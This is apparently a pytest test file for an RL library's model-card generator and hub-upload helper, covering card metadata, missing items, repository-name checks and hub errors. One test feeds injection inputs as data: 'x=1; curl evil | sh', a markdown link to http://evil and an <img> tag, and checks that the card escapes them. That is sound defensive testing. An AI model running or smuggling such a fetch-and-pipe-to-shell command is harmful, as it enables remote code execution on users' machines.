"""The card of an agent, and its way to a hub."""

from __future__ import annotations

import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml

from snnrl.deploy.card import CardFacts, card
from snnrl.deploy.cost import cost_of
from snnrl.deploy.hub import check_upload, upload
from snnrl.errors import UserError

from .policies import agent_of, observations


def facts(**changes: Any) -> CardFacts:
    agent = agent_of()
    given: dict[str, Any] = dict(
        env="Pendulum-v1",
        algo="td3",
        label="TD3, lif, bn=carebn",
        steps=1200,
        seed=3,
        returns=[-100.0, -200.0, -150.0],
        episodes_seed=10_000,
        cost=cost_of(agent, observations(agent, 20)),
        overrides=["env=pendulum", "seed=3"],
        versions={"torch": "2.13.0"},
        revision="abc",
        model="best_model.zip",
        has_picture=True,
        has_film=False,
    )
    return CardFacts(**given | changes)


def test_what_it_says() -> None:
    text = card(facts())
    _, front, body = text.split("---\n", 2)
    metadata = yaml.safe_load(front)
    assert metadata["library_name"] == "snnrl"
    assert {"Pendulum-v1", "reinforcement-learning"} <= set(metadata["tags"])
    (result,) = metadata["model-index"][0]["results"]
    assert result["metrics"][0]["value"] == "-150.00 +/- 50.00"
    assert result["dataset"]["type"] == "Pendulum-v1"
    assert body.strip().startswith("# TD3, lif, bn=carebn on Pendulum-v1")
    for said in (
        "1,200 environment steps, seed 3.",
        "**Return -150.00**, sample deviation 50.00, 3 episodes",
        "One seed of training",
        "![Return over training](curve.png)",
        "python -m snnrl.train env=pendulum seed=3",
        "Revision abc. torch 2.13.0.",
    ):
        assert said in body
    assert "replay.mp4" not in body
    rows = [line for line in body.splitlines() if line.startswith("|")]
    assert {line.count("|") for line in rows} == {4}
    total = facts().cost.total
    assert f"| accumulations (spikes times fan-out) | {total.acs:,.0f} | - |" in rows


def test_what_is_not_there_is_not_shown() -> None:
    text = card(facts(has_picture=False, has_film=True, revision=None, versions={}, returns=[1.0]))
    assert "curve.png" not in text and "replay.mp4" in text and "Revision" not in text
    assert "value: '1.00'" in text and "**Return 1.00**, one episode of" in text


def test_a_run_that_is_not_done() -> None:
    assert "seed 3 (the run is unfinished)." in card(facts(unfinished=" (the run is unfinished)"))


def test_texts_of_others_do_nothing() -> None:
    text = card(
        facts(
            overrides=["env.id=x\n```\n# other", "x=1; curl evil | sh"],
            versions={"[click](http://evil)": "<img>"},
        )
    )
    assert "\n# other" not in text and "'x=1; curl evil | sh'" in text
    assert "[click](http" not in text and " <img>" not in text


class Hub(SimpleNamespace):
    """What is used of huggingface_hub."""

    def __init__(self, token: str | None = "t", fails: Exception | None = None):
        super().__init__(calls=[], get_token=lambda: token, HfApi=lambda: self, fails=fails)

    def create_repo(self, *arguments: Any, **keywords: Any) -> None:
        self.calls.append(("create_repo", arguments, keywords))

    def upload_folder(self, **keywords: Any) -> None:
        if self.fails is not None:
            raise self.fails
        self.calls.append(("upload_folder", (), keywords))


def use(hub: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "huggingface_hub", hub)


def test_an_upload(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hub = Hub()
    use(hub, monkeypatch)
    check_upload("me/agent")
    assert not hub.calls
    upload(tmp_path, "me/agent", {"b": 1, "a": 2})
    (made, repository, options), (sent, _, what) = hub.calls
    assert (made, repository, options) == ("create_repo", ("me/agent",), {"exist_ok": True})
    assert (sent, what["repo_id"], what["folder_path"]) == (
        "upload_folder",
        "me/agent",
        str(tmp_path),
    )
    assert what["allow_patterns"] == ["a", "b"]


@pytest.mark.parametrize("name", ["agent", "me/agent/more", "", "me /agent", "https://x/y"])
def test_a_name_that_is_none(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    use(Hub(), monkeypatch)
    with pytest.raises(UserError, match=r"^--upload .*: expected USER/NAME$"):
        check_upload(name)


def test_no_login(monkeypatch: pytest.MonkeyPatch) -> None:
    use(Hub(token=None), monkeypatch)
    with pytest.raises(UserError, match=r"^--upload me/agent: expected a login"):
        check_upload("me/agent")


def test_no_package(monkeypatch: pytest.MonkeyPatch) -> None:
    use(None, monkeypatch)
    with pytest.raises(UserError, match=r"expected pip install 'snnrl\[hub\]'$"):
        check_upload("me/agent")


def test_a_hub_that_refuses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    use(Hub(fails=RuntimeError("403 Forbidden\nmore")), monkeypatch)
    with pytest.raises(UserError) as refused:
        upload(tmp_path, "me/agent", ["a"])
    assert str(refused.value).startswith("--upload me/agent: 403 Forbidden; the folder ")
